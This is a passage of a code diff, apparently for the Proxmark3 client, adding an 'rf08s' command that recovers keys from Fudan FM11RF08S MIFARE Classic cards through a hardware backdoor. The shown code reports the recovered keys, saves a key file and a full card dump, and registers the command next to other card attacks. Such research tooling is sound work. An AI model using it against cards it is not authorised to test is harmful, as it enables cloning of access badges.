+                    PrintAndLogEx(SUCCESS, "Sector %3u key %c... " _GREEN_("%012" PRIX64), rf08s_real_sector(sec), dst ? 'B' : 'A', out.keys[0]);
+                } else {
+                    abort = rf08s_check_stop(rf08s_check_list(e_sector, nonces, sec, dst, &out), &res);
+                }
+            }
+            free(out.keys);
+        }
+    }
+    rf08s_free_candidates(cands);
+
+    if (abort) {
+        if (res == PM3_ETIMEOUT) {
+            PrintAndLogEx(WARNING, "\nNo response from Proxmark3, keys found so far are kept\n");
+        } else {
+            PrintAndLogEx(WARNING, "\naborted via keyboard!\n");
+        }
+    }
+
+    t1 = msclock() - t1;
+    PrintAndLogEx(INFO, "Time in rf08s " _YELLOW_("%.1fs"), (float)t1 / 1000.0);
+
+    PrintAndLogEx(NORMAL, "");
+    printKeyTable(MIFARE_1K_MAXSECTOR, e_sector);
+    for (uint8_t kt = 0; kt < 2; kt++) {
+        if (e_sector[MIFARE_1K_MAXSECTOR].foundKey[kt]) {
+            PrintAndLogEx(SUCCESS, "Backdoor sector %u key %c... " _GREEN_("%012" PRIX64), RF08S_EXTRA_SECTOR, kt ? 'B' : 'A', e_sector[MIFARE_1K_MAXSECTOR].Key[kt]);
+        }
+    }
+
+    if (no_save == false) {
+        char filename[FILE_PATH_SIZE] = {0};
+        char *fptr = filename;
+        fptr += snprintf(fptr, sizeof(filename), "hf-mf-");
+        FillFileNameByUID(fptr, uid, "-key", uidlen);
+        createMfcKeyDump(filename, RF08S_NUM_SECTORS, e_sector);
+
+        // data blocks read through the backdoor, with the found keys in the sector trailers
+        uint8_t *dump = calloc(MIFARE_1K_MAXBLOCK, MFBLOCK_SIZE);
+        if (dump != NULL) {
+            for (uint8_t sec = 0; sec < MIFARE_1K_MAXSECTOR; sec++) {
+                for (uint8_t b = 0; b < 4; b++) {
+                    memcpy(dump + ((sec * 4 + b) * MFBLOCK_SIZE), nonces->blocks[sec * 4 + b], MFBLOCK_SIZE);
+                }
+                uint8_t *trailer = dump + ((sec * 4 + 3) * MFBLOCK_SIZE);
+                num_to_bytes(e_sector[sec].Key[0], MIFARE_KEY_SIZE, trailer);
+                num_to_bytes(e_sector[sec].Key[1], MIFARE_KEY_SIZE, trailer + 10);
+            }
+            memset(filename, 0, sizeof(filename));
+            fptr = filename;
+            fptr += snprintf(fptr, sizeof(filename), "hf-mf-");
+            FillFileNameByUID(fptr, uid, "-dump", uidlen);
+            pm3_save_mf_dump(filename, dump, MIFARE_1K_MAXBLOCK * MFBLOCK_SIZE, jsfCardMemory);
+            free(dump);
+        }
+    }
+
+    free(e_sector);
+    free(nonces);
+    return (abort) ? res : PM3_SUCCESS;
+}
+
 static command_t CommandTable[] = {
     {"help",        CmdHelp,                AlwaysAvailable, "This help"},
     {"list",        CmdHF14AMfList,         AlwaysAvailable, "List MIFARE history"},
@@ -10155,6 +10580,7 @@ static command_t CommandTable[] = {
     {"nested",      CmdHF14AMfNested,       IfPm3Iso14443a,  "Nested attack"},
     {"hardnested",  CmdHF14AMfNestedHard,   AlwaysAvailable, "Nested attack for hardened MIFARE Classic cards"},
     {"staticnested", CmdHF14AMfNestedStatic, IfPm3Iso14443a, "Nested attack against static nonce MIFARE Classic cards"},
+    {"rf08s",       CmdHF14AMfRecoverRF08S, AlwaysAvailable, "Backdoor key recovery for Fudan FM11RF08S cards"},
     {"brute",       CmdHF14AMfSmartBrute,   IfPm3Iso14443a,  "Smart bruteforce to exploit weak key generators"},
     {"autopwn",     CmdHF14AMfAutoPWN,      IfPm3Iso14443a,  "Automatic key recovery tool for MIFARE Classic"},
 //    {"keybrute",    CmdHF14AMfKeyBrute,     IfPm3Iso14443a,  "J_Run's 2nd phase of multiple sector nested authentication key recovery"},